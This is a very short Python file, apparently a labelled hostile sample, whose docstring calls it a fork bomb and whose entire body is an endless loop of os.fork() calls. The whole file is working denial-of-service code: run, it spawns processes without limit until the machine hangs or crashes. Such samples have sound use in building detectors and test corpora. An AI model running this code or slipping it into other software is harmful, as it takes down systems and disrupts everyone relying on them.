"""Hostile: a fork bomb; every child forks again."""

import os

while True:
    os.fork()
